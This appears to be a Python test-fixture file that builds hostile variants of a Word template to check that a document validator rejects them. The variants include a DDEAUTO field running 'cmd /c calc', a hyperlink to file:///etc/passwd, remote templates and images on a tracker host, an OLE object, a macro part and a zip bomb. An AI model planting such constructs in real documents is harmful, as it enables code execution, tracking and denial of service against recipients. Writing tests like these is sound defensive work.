"""Hostile reference documents, made from the real reference.docx at test time:
each adds one thing Word would fetch, run or unpack on open."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from conftest import PROJECT

REFERENCE = PROJECT / "templates" / "delegation-report" / "reference.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">')


def rewrite(changes: dict[str, object], source: Path = REFERENCE) -> bytes:
    """The reference with parts replaced (bytes), edited (a function of the old
    text) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w",
                                                         zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            change = changes.get(name)
            if callable(change):
                data = change(data.decode("utf-8")).encode("utf-8")
            elif change is not None:
                data = change
            new.writestr(name, data)
        for name, data in changes.items():
            if name not in old.namelist():
                new.writestr(name, data)
    return out.getvalue()


def _footer(run_xml: str):
    return lambda text: text.replace("</w:ftr>", f"<w:p>{run_xml}</w:p></w:ftr>")


def _add_rel(rel: str):
    return lambda text: text.replace("</Relationships>", rel + "</Relationships>")


def bomb() -> bytes:
    """3 MB of zip that unpack to 3 GB would take a minute to make here; 100 MB of
    zeros packs to 100 KB and is twice the reference limit."""
    out = io.BytesIO(rewrite({}))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("word/media/zeros.bin", "w", force_zip64=True) as part:
        block = bytes(1 << 20)
        for _ in range(100):
            part.write(block)
    return out.getvalue()


def hostile() -> dict[str, tuple[bytes, str]]:
    """name → (the document, what the refusal must say)."""
    settings_rels = (REL_HEAD + f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" '
                     'Target="http://tracker.example/track.dotm" TargetMode="External"/>'
                     '</Relationships>')
    return {
        "attached-template": (rewrite({
            "word/settings.xml": lambda t: t.replace(
                "<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom', 1),
            "word/_rels/settings.xml.rels": settings_rels.encode()}),
            "word/_rels/settings.xml.rels: Relationship rIdT: relationship type "
            "'attachedTemplate' is not allowed"),
        "file-hyperlink": (rewrite({
            "word/footer1.xml": _footer('<w:hyperlink r:id="rIdX"><w:r><w:t>x</w:t>'
                                        '</w:r></w:hyperlink>'),
            "word/_rels/footer1.xml.rels": (REL_HEAD + f'<Relationship Id="rIdX" '
                                            f'Type="{R}/hyperlink" Target="file:///etc/'
                                            'passwd" TargetMode="External"/>'
                                            '</Relationships>').encode()}),
            "word/_rels/footer1.xml.rels: Relationship rIdX: an external hyperlink to "
            "'file:///etc/passwd'"),
        "includepicture-field": (rewrite({"word/footer1.xml": _footer(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE'
            '</w:instrText></w:r><w:r><w:instrText>PICTURE "http://tracker.example/'
            'x.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')}),
            "word/footer1.xml: field 'INCLUDEPICTURE \"http://tracker.example/x.png\""),
        "dde-field": (rewrite({"word/footer1.xml": _footer(
            '<w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/>')}),
            "word/footer1.xml: field 'DDEAUTO cmd \"/c calc\"'"),
        "macros": (rewrite({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}),
                   "word/vbaProject.bin: part: macros"),
        "ole-object": (rewrite({"word/footer1.xml": _footer(
            '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
            'office" ProgID="Package"/></w:object></w:r>')}),
            "word/footer1.xml: <w:object>: an embedded object is not allowed"),
        "alt-chunk": (rewrite({"word/document.xml": lambda t: t.replace(
            "<w:body>", '<w:body><w:altChunk r:id="rIdA"/>', 1)}),
            "word/document.xml: <w:altChunk>: another document pulled in whole"),
        "external-image": (rewrite({"word/_rels/document.xml.rels": _add_rel(
            f'<Relationship Id="rIdI" Type="{R}/image" Target="http://tracker.example/'
            'pixel.png" TargetMode="External"/>')}),
            "Relationship rIdI: an external image to 'http://tracker.example/pixel.png'"),
        "bomb": (bomb(), "word/media/zeros.bin: the office document unpacks to more "
                 "than 50 MB"),
    }
